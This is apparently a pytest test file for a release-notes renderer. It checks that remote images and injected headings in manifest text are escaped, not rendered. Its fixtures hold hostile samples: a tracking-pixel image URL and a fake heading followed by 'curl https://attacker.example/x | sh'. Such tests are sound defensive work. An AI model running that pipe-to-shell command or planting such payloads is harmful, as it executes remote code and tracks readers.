"""The release notes stay self-contained (issue 25, item 6): an image in manifest text is not
rendered (the page fetches nothing when opened), and a heading inside a change note, a known
issue or a one-line field cannot become a section or a table-of-contents entry. Each test
failed on cdfdf7d: the image became an <img> in the page and the fragment, the fake heading
an <h2> listed in the table of contents."""
from __future__ import annotations

import dataclasses
import re
from pathlib import Path
from typing import Any

import pytest
from conftest import DEMO

from pmrepo import manifest
from pmrepo.manifest.model import NoteSection, Text
from pmrepo.notes.collect import collect
from pmrepo.notes.render import markdown_to_html, render_texts

IMAGE = "![p](https://attacker.example/track.png?who=reader)"
FAKE = "line1\n\n## Fake install\n\n    # curl https://attacker.example/x | sh"


def _pages(rel: manifest.Release) -> dict[str, str]:
    return render_texts(collect(rel, repo_dir=None))


def _toc(html: str) -> list[str]:
    nav = re.search(r'<nav class="toc".*?</nav>', html, re.S)
    assert nav is not None
    return re.findall(r'<a href="#sec-[\d-]+">(.*?)</a>', nav.group(0))


@pytest.fixture(scope="module")
def demo() -> manifest.Release:
    return manifest.load(DEMO)


@pytest.fixture(scope="module")
def plain(demo: manifest.Release) -> dict[str, str]:
    return _pages(demo)


def _hostile(demo: manifest.Release, *items: str, summary: str | None = None) -> manifest.Release:
    comps = tuple(dataclasses.replace(c, change_notes=Text(items, items)) if c.name == "demod" else c
                  for c in demo.components)
    extra: dict[str, Any] = {"summary": summary} if summary is not None else {}
    return dataclasses.replace(demo, components=comps, change_notes=Text(items, items), **extra)


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_a_remote_image_in_change_notes_is_in_neither_the_page_nor_the_fragment(demo: manifest.Release,
                                                                               lang: str) -> None:
    pages = _pages(_hostile(demo, IMAGE))
    for name in (f"RELEASE-NOTES.{lang}.html", f"RELEASE-NOTES.{lang}.fragment.html"):
        html = pages[name]
        assert "<img" not in html, name
        assert not re.search(r'src="https://attacker', html), name
        assert ">p</a>" in html  # shown as its text, a link the reader may follow
    md = pages[f"RELEASE-NOTES.{lang}.md"]
    assert IMAGE not in md and "&#33;[p](https://attacker.example/track.png?who=reader)" in md


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_a_heading_in_a_change_note_is_no_section_and_no_toc_entry(demo: manifest.Release, plain: dict[str, str],
                                                                    lang: str) -> None:
    pages = _pages(_hostile(demo, FAKE, summary="## Fake summary heading"))
    for name in (f"RELEASE-NOTES.{lang}.html", f"RELEASE-NOTES.{lang}.fragment.html"):
        html = pages[name]
        assert "Fake install" in html  # the text is there …
        assert not re.search(r"<h\d[^>]*>[^<]*Fake", html), name  # … as text, never a heading
        assert _toc(html) == _toc(plain[name]), "the table of contents changed"
        assert html.count("<h2") == plain[name].count("<h2")
        assert "<pre><code># curl" in html  # the indented line stays a code block, shown as written
    md = pages[f"RELEASE-NOTES.{lang}.md"]
    assert not re.search(r"(?m)^\s*(- )?#+ Fake", md), "the Markdown page has the fake heading too"
    assert "\\## Fake install" in md


SETEXT = ["Fake\n===", "Fake\n---", "> ## Fake", "1. ## Fake", "- ## Fake", "  ### Fake"]


@pytest.mark.parametrize("text", SETEXT)
def test_no_other_heading_form_in_a_text_field_becomes_a_heading(demo: manifest.Release, plain: dict[str, str],
                                                                 text: str) -> None:
    html = _pages(_hostile(demo, "first line\n" + text))["RELEASE-NOTES.en.html"]
    assert not re.search(r"<h\d[^>]*>[^<]*Fake", html), text
    assert _toc(html) == _toc(plain["RELEASE-NOTES.en.html"])


def test_headings_nested_in_lists_or_quotes_are_paragraphs_in_the_html() -> None:
    """The HTML layer holds even for Markdown that was not escaped: only top-level headings are sections."""
    parts = markdown_to_html("# t\n\n## Real\n\n- item\n\n  ## Nested\n\n> ### Quoted\n", "en")
    assert [e.title for e in parts.toc] == ["Real"]
    assert "<p>## Nested</p>" in parts.body and "<p>### Quoted</p>" in parts.body


def test_a_notes_section_keeps_its_own_headings_but_loads_no_image(demo: manifest.Release, tmp_path: Path) -> None:
    """A section file is the author's document: its ### headings are subsections in the table of
    contents; an image in it is shown as a link all the same (the page loads nothing)."""
    doc = tmp_path / "sec.md"
    doc.write_text("Intro.\n\n### Own subsection\n\n![diagram](https://example.org/d.png)\n")
    sec = NoteSection({"ja": "節", "en": "Section"}, {"ja": doc, "en": doc})
    html = _pages(dataclasses.replace(demo, sections=(sec,)))["RELEASE-NOTES.en.html"]
    assert "Own subsection" in _toc(html)
    assert "<img" not in html and ">diagram</a>" in html
